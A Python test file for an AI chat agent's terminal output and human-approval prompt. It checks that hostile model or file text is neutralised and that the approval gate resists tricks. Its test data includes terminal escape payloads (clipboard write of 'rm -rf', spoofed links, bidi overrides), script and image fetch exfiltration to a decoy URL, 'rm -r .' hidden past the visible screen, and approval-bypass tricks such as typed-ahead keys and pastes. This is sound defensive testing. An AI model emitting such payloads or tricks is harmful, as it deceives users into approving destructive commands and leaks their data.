"""Cases 53 to 60 as far as a terminal goes: what a model or a stranger writes, and the one key that says yes.

Texts meet a real pseudo-terminal, once with the whole program behind it and once with the question
alone, whose guards are then taken away one by one: each time at least one attack must get through."""
import os
import pty
import re
import socket
import sys
import threading
import time
from pathlib import Path

import pytest

from javis import approving, keys, turn
from javis.approving import Asking
from javis.config import load_settings
from javis.events import Approval, ApprovalNeeded
from javis.session import ChatSession
from javis.store import Store
from javis.tools.base import Toolbox, render_tool_call, tool
from javis.tools.policy import Policy

sys.path.insert(0, str(Path(__file__).parent.parent))
from pseudo_terminal import CALL, CODES, Terminal, endpoint, home  # noqa: E402, F401

HOSTILE = ("\x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\ "
           "\x1b]52;c;cm0gLXJm\x07 \x1bPq#0\x1b\\ \x9b31m \u202egnp.exe\u202c \u2066x\u2069 [bold green]SAFE[/] "
           "[link=https://evil.example]y[/link] one\rtwo \U000e0041\u200b :skull: back\x08\x08 bell\x07")
RAW = ["\x1b]52", "\x1b]8", "\x1b]0;", "\x1b[2J\x1b[1;1H", "\x1bP", "\x07", "\u202e", "\u2066", "\x9b", "\U000e0041", "\x08\x08",
       "cm0gLXJm\x07", "one\rtwo"]


def reaches_the_terminal(text):
    "What of the hostile text a terminal would obey."
    return [one for one in RAW if one in text]


@pytest.fixture
def decoy():
    "A server that nobody may call; `decoy.calls` is their number."
    class Decoy:
        calls = 0
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    found, over = Decoy(), threading.Event()
    found.port = listener.getsockname()[1]

    def count():
        while not over.is_set():
            try:
                listener.accept()[0].close()
                found.calls += 1
            except TimeoutError:
                pass
    thread = threading.Thread(target=count)
    thread.start()
    yield found
    over.set()
    thread.join()
    listener.close()


# ---- texts

@pytest.mark.case(53, 54)
def test_pictures_links_and_pages_in_an_answer_are_text_and_load_nothing(home, endpoint, decoy):
    evil = f"http://127.0.0.1:{decoy.port}/?q=secret"
    texts = [f"![x]({evil})", f"<img src='{evil}'>", f"[click]({evil})", f"<script>fetch('{evil}')</script>", f"<{evil}>"]
    endpoint("\n".join(texts))
    with Terminal("chat", home=home, columns=120, env={"NO_COLOR": ""}) as terminal:
        terminal.until("› ?").quiet().type("hello\r").until("</?script>").until(r"\?q=secret>").quiet()
        assert all(one in terminal.plain for one in texts) and not reaches_the_terminal(terminal.text)
        terminal.type("/export page.md\r").until("has the conversation")
    assert decoy.calls == 0


@pytest.mark.case(55)
@pytest.mark.parametrize("command", [
    "hello", "/context", "/branch", "/threads", "/threads red", "/memory", "/threads 1", "/retry"])
def test_hostile_text_never_reaches_the_terminal_raw(home, endpoint, command):
    endpoint(HOSTILE)
    with Store(home / "data/javis.db") as store:
        thread = store.new_thread(f"{HOSTILE} red")
        asked = store.add_message(thread, "user", f"{HOSTILE} red")
        store.add_message(thread, "assistant", HOSTILE, parent_id=asked)
        from javis.memory import Memories
        Memories(store).remember(HOSTILE.replace("\r", " "), pinned=True)
    with Terminal("chat", "--continue", home=home, env={"NO_COLOR": ""}) as terminal:
        terminal.until("› ?").quiet()
        terminal.type("/threads\r").until("NUMBER").quiet() if command.endswith("1") else None
        terminal.type(f"{command}\r").quiet(1.5)
        assert terminal.child.poll() is None and len(terminal.plain) > 40
        assert "[bold green]SAFE[/]" in terminal.all and ":skull:" in terminal.all
        assert not reaches_the_terminal(terminal.all)


@pytest.mark.case(55)
def test_hostile_code_results_errors_and_names_never_reach_the_terminal_raw(home, endpoint):
    (home / "notes.txt").write_text(HOSTILE)
    (home / "x\u202eyp.txt").write_text("x")
    (home / "AGENTS.md").write_text(HOSTILE)
    endpoint(f"```py\u202ethon\x1b[2J\n{HOSTILE}\n```", CALL % ("read_file", '{"path": "notes.txt"}'),
             CALL % (f"read_file{HOSTILE[:8]!r}"[:40].replace('"', "").replace("\\", ""), "{}"),
             CALL % ("list_dir", '{"path": "."}'), CALL % ("read_file", '{"path": "\\u001b]52;c;x\\u0007\\u202e"}'))
    with Terminal("chat", home=home, env={"NO_COLOR": ""}) as terminal:
        terminal.until("› ?").quiet()
        for _ in range(5):
            terminal.type("go\r").quiet(1.2)
        terminal.type("@file:x").quiet().type("\x15").quiet()
        assert not reaches_the_terminal(terminal.all)
    with Terminal("policy", "trust", "AGENTS.md", home=home) as terminal:
        terminal.until(r"\[y/N\]")
        assert not reaches_the_terminal(terminal.all)


# ---- questions

@tool(effect="exec")
def run(
    command: str,  # a command
) -> str:
    "Run a command."
    return command


def question(command, key="3f9a"):
    return ApprovalNeeded("01", "run", {"command": command}, "the default for the effect exec", "exec", key)


def asked(monkeypatch, capsys, one, *typing, edit=None, size=(80, 24)):
    "What is decided when somebody types so: pairs of seconds to wait and keys; and what was on the screen."
    master, slave = pty.openpty()
    file = os.fdopen(slave, "r")
    monkeypatch.setattr(approving, "keyboard", lambda: file)
    monkeypatch.setattr(approving.shutil, "get_terminal_size", lambda: os.terminal_size(size))
    said = []
    thread = threading.Thread(target=lambda: said.append(Asking(Toolbox([run]), edit)(one)))
    capsys.readouterr()
    if typing and typing[0][0] < 0:  # before the question
        os.write(master, typing[0][1].encode())
        time.sleep(0.1)
        typing = typing[1:]
    thread.start()
    time.sleep(0.05)
    for seconds, text in typing:
        time.sleep(seconds)
        if thread.is_alive():
            os.write(master, text.encode())
    thread.join(0.8)
    waited = thread.is_alive()
    while thread.is_alive():
        os.write(master, b"n")
        thread.join(0.7)
    os.close(master)
    file.close()
    shown = capsys.readouterr().err
    return said[0], shown, waited


def typed_ahead(monkeypatch, capsys):
    return asked(monkeypatch, capsys, question("rm -r ."), (-1, "y\ny"))[0].yes


def typed_at_once(monkeypatch, capsys):
    return asked(monkeypatch, capsys, question("rm -r ."), (0.05, "y"))[0].yes


def key_held_down(monkeypatch, capsys):
    return asked(monkeypatch, capsys, question("rm -r ."), *[(0.1, "y")] * 8)[0].yes


def pasted(monkeypatch, capsys):
    return any(asked(monkeypatch, capsys, question("rm -r ."), (0.6, text))[0].yes
               for text in ("y\n", "yes", "\x1b[200~y\x1b[201~"))


def entered(monkeypatch, capsys):
    return any(asked(monkeypatch, capsys, question("rm -r ."), (0.6, text))[0].yes for text in ("\r", "\n", " ", "x"))


def unseen_end(monkeypatch, capsys):
    "A yes while the end of the command was not on the screen."
    for command in ("ls" + " " * 9000 + "; rm -r .", "ls\n" * 500 + "; rm -r ."):
        said, shown, _ = asked(monkeypatch, capsys, question(command), (0.6, "y"), (0.6, "y"))
        if said.yes:
            return True
    return False


def end_left_out(monkeypatch, capsys):
    "A call that is not shown whole, after all its pages."
    command = "ls" + "\u00a0" * 500 + "; rm -r ."
    _, shown, _ = asked(monkeypatch, capsys, question(command), (0.6, " "), (0.6, " "), (0.6, " "), (0.6, "n"))
    flat = re.sub(r"page \d of .*\n|\n", "", CODES.sub("", shown))
    return "; rm -r ." not in flat or flat.count("\\u00a0") != 500


def overwritten(monkeypatch, capsys):
    _, shown, _ = asked(monkeypatch, capsys, question(f"rm -r . # {HOSTILE}\rls\x1b[1A\x1b[2K"), (0.6, "n"))
    return bool(reaches_the_terminal(shown)) or "\r" in shown or "\x1b[1A" in shown


def looks_like_another_argument(monkeypatch, capsys):
    _, shown, _ = asked(monkeypatch, capsys, question('ls"\n  command = "rm -r ."'), (0.6, "n"))
    return len(re.findall(r"^  command = ", shown, re.M)) != 1


def edited_behind_the_back(monkeypatch, capsys):
    "Changed arguments that run without having been shown."
    said, shown, _ = asked(monkeypatch, capsys, question("make"), (0.6, "e"), (0.1, "y"), (0.6, "n"),
                           edit=lambda text: '{"command": "rm -r ."}')
    return said.yes or 'command = "rm -r ."' not in shown


def run_with(tmp_path, approve):
    "What became of a call that a session asked about."
    settings = load_settings(root=tmp_path, env={})
    with Store(settings.paths.db) as store, ChatSession(
            settings, store, Toolbox([run]), Policy(tmp_path, "edit"), approve=approve, follow_up=False,
            client=turn.scripted_client(*[render_tool_call("run", {"command": "ls"})] * 2)) as session:
        return [session.ask("go").tool_calls[0].status for _ in range(2)]


def other_key(monkeypatch, capsys, tmp_path=None):
    "A yes to another call counts for this one."
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        first = []

        def approve(one):
            first.append(one.key)
            return Approval(True, "of another call")
        return "ok" in run_with(Path(folder), approve)


ATTACKS = {
    typed_ahead: (58,), typed_at_once: (58,), key_held_down: (58,), pasted: (58,), entered: (58,), unseen_end: (56,),
    end_left_out: (56,), overwritten: (55, 56), looks_like_another_argument: (56,), edited_behind_the_back: (57,),
    other_key: (57, 59)}


@pytest.mark.parametrize("attack", [pytest.param(one, marks=pytest.mark.case(*cases), id=one.__name__)
                                    for one, cases in ATTACKS.items()])
def test_no_attack_on_the_question_gets_through(attack, monkeypatch, capsys):
    assert not attack(monkeypatch, capsys)


@pytest.mark.case(58)
def test_a_person_who_has_read_it_can_say_yes(monkeypatch, capsys):
    for key in ("y", "Y", "ㅛ"):
        said, shown, _ = asked(monkeypatch, capsys, question("ls"), (0.6, key))
        assert said == Approval(True, "3f9a") and 'command = "ls"' in shown
    pages = [(0.6, " ")] * 3
    said, shown, _ = asked(monkeypatch, capsys, question("ls" + " " * 4000 + "; ls"), *pages, (0.6, "y"))
    assert said.yes and "there are 4000 blanks in a row" in shown


@pytest.mark.case(56)
def test_letters_that_look_like_others_are_named(monkeypatch, capsys):
    _, shown, _ = asked(monkeypatch, capsys, question("сat notes.txt"), (0.6, "n"))
    assert "cyrillic small letter es" in shown


@pytest.mark.case(59, 60)
def test_each_call_needs_a_yes_of_its_own_and_a_wider_one_saves_the_rest(tmp_path):
    keys_seen = []

    def approve(one, scope="once"):
        keys_seen.append(one.key)
        return Approval(True, one.key, scope=scope)
    (tmp_path / "a").mkdir()
    assert run_with(tmp_path / "a", approve) == ["ok", "ok"] and len(keys_seen) == 2
    (tmp_path / "b").mkdir()
    assert run_with(tmp_path / "b", lambda one: approve(one, "thread")) == ["ok", "ok"] and len(keys_seen) == 3


def first_page_only(lines, columns, height, pages=approving.pages):
    return pages(lines, columns, height)[:1]


async def any_yes(self, question):
    answer = self._answers[question.id] = turn.asyncio.get_running_loop().create_future()
    self.emit(question)
    return await self.interruptible(answer)


WEAK = {
    "silence": [(keys, "settle", lambda keys, quiet_s=0: 0)],
    "one key alone": [(approving, "chosen", lambda keys, among, guard=True: (keys(None) or "n")[0].lower())],
    "no default": [(approving, "chosen", lambda keys, among, guard=True: (
        lambda burst: burst.lower() if burst.lower() in set(among) else "y")(keys(None)))],
    "the last page": [(approving, "pages", first_page_only)],
    "what cannot be seen": [(approving, "visible", lambda text: text), (approving, "escaped", lambda value: str(value))],
    "shown again": [(approving.Asking, "_edited", lambda self, one: approving.changed(
        one, self.edit(""), self.toolbox)), (approving, "approval_lines", lambda one, wall="": [("run: ?", "")])],
    "the key of the call": [(turn.Control, "approval", any_yes)],
}


@pytest.mark.case(55, 56, 57, 58, 59)
@pytest.mark.parametrize("guard", WEAK)
def test_without_a_guard_an_attack_gets_through(guard, monkeypatch, capsys):
    for place, name, weak in WEAK[guard]:
        monkeypatch.setattr(place, name, weak)
    assert any(attack(monkeypatch, capsys) for attack in ATTACKS)
